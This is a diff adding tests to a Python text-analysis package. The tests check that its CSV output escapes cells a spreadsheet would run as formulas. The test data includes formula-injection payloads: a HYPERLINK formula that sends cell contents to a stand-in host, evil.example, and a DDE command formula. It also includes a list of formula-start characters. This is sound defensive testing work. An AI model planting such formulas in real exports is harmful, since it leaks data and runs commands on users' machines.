@@ -12,6 +12,8 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from carelens.errors import InputError, MissingExtraError
 from carelens.output import (
@@ -23,6 +25,9 @@ from carelens.output import (
     output_format,
     read_results,
     result_record,
+    safe_cell,
+    spreadsheet_safe,
+    spreadsheet_text,
 )
 from carelens.readers import RejectLog
 from carelens.types import DimensionScore, Exchange, ResponseAnalysis, Span, Turn
@@ -819,3 +824,147 @@ def test_an_older_output_of_another_input_text_is_not_said_to_have_no_texts(
         said = str(caught.value)
         assert "no texts" not in said and "to resume it" not in said
         assert "the texts of record 1 are neither the input's nor its redaction" in said
+
+
+# --- CSV cells a spreadsheet would run as formulas -------------------------------------
+
+#: What a spreadsheet may take as the start of a formula (CSV or formula injection).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+#: Texts from forum or chat users that a spreadsheet would run, or that begin with the
+#: apostrophe the escape adds (so that it can always be dropped again).
+FORMULA_TEXTS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click me")',
+    "=cmd|' /C calc'!A0",
+    "+1 555 0100, call me",
+    "-5 days since it happened",
+    "@SUM(1+1) I'm so sorry",
+    "\tIndented with a tab",
+    "\rA carriage return first",
+    "'quoted, as by a spreadsheet",
+    "''twice",
+    "'=1+1",
+    "plain, nothing to escape",
+]
+
+
+class SignedFlagsAnalyzer(FakeAnalyzer):
+    """:class:`FakeAnalyzer` with negative flag scores, numbers that begin with ``-``."""
+
+    def predict(self, pairs: Sequence[Exchange]) -> list[ResponseAnalysis]:
+        flags = {"advice": -0.5, "self_focus": -2.0}
+        return [dataclasses.replace(a, flags=flags) for a in super().predict(pairs)]
+
+
+def write_formula_pairs(path: Path) -> list[dict[str, str]]:
+    """A JSON Lines input whose texts, ids and names all begin like formulas; the rows."""
+    rows = []
+    for i, text in enumerate(FORMULA_TEXTS):
+        rows.append(
+            {
+                "seeker_id": f"-s{i}",
+                "response_id": f"=r{i}",
+                "conversation_id": f"+c{i}",
+                "speaker": f"@{text}",
+                "seeker_speaker": text,
+                "community": "'forum",
+                "seeker": text,
+                "response": f"{text} What happened?",
+            }
+        )
+    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
+    return rows
+
+
+def csv_cells(path: Path) -> list[list[str]]:
+    """The cells of a CSV file as any CSV reader (a spreadsheet's too) sees them."""
+    with path.open(encoding="utf-8", newline="") as fh:
+        return list(csv.reader(fh))
+
+
+def test_csv_output_starts_no_formula_and_reads_back_exactly(tmp_path: Path) -> None:
+    source = tmp_path / "in.jsonl"
+    rows = write_formula_pairs(source)
+    for fmt in FORMATS:
+        analyze_file(source, SignedFlagsAnalyzer(), tmp_path / f"out.{fmt}")
+    header, *data = csv_cells(tmp_path / "out.csv")
+    dangerous = [(name, cell) for row in data for name, cell in zip(header, row, strict=True)]
+    dangerous = [(n, c) for n, c in dangerous if c.startswith(FORMULA_STARTS) and n[:5] != "flag_"]
+    assert dangerous == []
+    cells = [dict(zip(header, row, strict=True)) for row in data]
+    assert cells[0]["seeker_text"] == "'" + FORMULA_TEXTS[0]  # shown as text, not run
+    assert cells[7]["seeker_text"] == "''quoted, as by a spreadsheet"
+    assert cells[10]["seeker_text"] == "plain, nothing to escape"  # left as it is
+    # Numbers are not texts: a negative score is written as the number it is.
+    assert {(c["flag_advice"], c["flag_self_focus"]) for c in cells} == {("-0.5", "-2.0")}
+    # Read back, every text is what the input said, as in the exact formats.
+    records = list(read_results(tmp_path / "out.csv"))
+    assert records == list(read_results(tmp_path / "out.jsonl"))
+    assert [r["response_text"] for r in records] == [r["response"] for r in rows]
+    assert [(r["seeker_id"], r["response_id"], r["speaker"]) for r in records] == [
+        (r["seeker_id"], r["response_id"], r["speaker"]) for r in rows
+    ]
+    assert {r["flags"]["advice"] for r in records} == {-0.5}
+    # JSON Lines and Parquet keep every text exactly, with no apostrophe added.
+    parquet = list(read_results(tmp_path / "out.parquet"))
+    assert [r["seeker_text"] for r in parquet] == FORMULA_TEXTS
+    assert "'=HYPERLINK" not in (tmp_path / "out.jsonl").read_text(encoding="utf-8")
+
+
+@pytest.mark.parametrize("keep_options", [True, False])
+def test_csv_with_escaped_cells_resumes_as_an_uninterrupted_run(
+    tmp_path: Path, keep_options: bool
+) -> None:
+    # Resuming reads the records back and, without OUT.options.json (an output begun by an
+    # older carelens), compares their texts with the input's: they must come back exactly.
+    source = tmp_path / "in.jsonl"
+    write_formula_pairs(source)
+    whole = tmp_path / "whole.csv"
+    analyze_file(source, FakeAnalyzer(), whole)
+    out = tmp_path / "out.csv"
+    interrupted_run(source, out, after_chunks=1)  # 5 records flushed
+    chop(out, 3)  # the last one cut
+    if not keep_options:
+        options_path(out).unlink()
+    summary = analyze_file(source, FakeAnalyzer(), out, chunk_size=5)
+    assert (summary.resumed, summary.analysed) == (4, len(FORMULA_TEXTS) - 4)
+    assert out.read_bytes() == whole.read_bytes()
+
+
+def test_the_spreadsheet_escape_of_one_cell() -> None:
+    assert spreadsheet_safe("=1+1") == "'=1+1"
+    assert spreadsheet_safe("'quoted") == "''quoted"
+    assert spreadsheet_safe("\r\n=x") == "'\r\n=x"
+    assert spreadsheet_safe("a=b") == "a=b" and spreadsheet_safe("") == ""
+    assert spreadsheet_text("''quoted") == "'quoted" and spreadsheet_text("plain") == "plain"
+    assert [safe_cell(v) for v in (-0.5, -3, True, None)] == [-0.5, -3, True, None]
+    assert safe_cell("-3") == "'-3"  # a text that looks like a number stays a text
+
+
+@given(st.text())
+@settings(max_examples=500)
+def test_the_spreadsheet_escape_round_trips_and_starts_no_formula(text: str) -> None:
+    cell = spreadsheet_safe(text)
+    assert spreadsheet_text(cell) == text
+    assert not cell.startswith(FORMULA_STARTS)
+    assert cell == text or cell == "'" + text  # at most one apostrophe, in front
+    if not text.startswith((*FORMULA_STARTS, "'")):
+        assert cell == text
+
+
+@given(st.lists(st.text(alphabet="=+-@'\t\r\na,\" ", max_size=8), min_size=2, max_size=2))
+@settings(max_examples=60, deadline=None)
+def test_escaped_texts_round_trip_through_a_csv_file(
+    tmp_path_factory: Any, texts: list[str]
+) -> None:
+    folder = tmp_path_factory.mktemp("csv")
+    source = folder / "in.jsonl"
+    # A text is never empty (the readers reject a pair without one): one record each run.
+    seeker, response = (f"{text} ok" for text in texts)
+    row = {"seeker_id": "-s", "response_id": "=r", "seeker": seeker, "response": response}
+    source.write_text(json.dumps(row) + "\n", encoding="utf-8")
+    for fmt in ("csv", "jsonl"):
+        analyze_file(source, FakeAnalyzer(), folder / f"out.{fmt}")
+    records = list(read_results(folder / "out.csv"))
+    assert len(records) == 1 and records == list(read_results(folder / "out.jsonl"))
+    for row_cells in csv_cells(folder / "out.csv")[1:]:
+        assert not any(cell.startswith(FORMULA_STARTS) for cell in row_cells[:2])
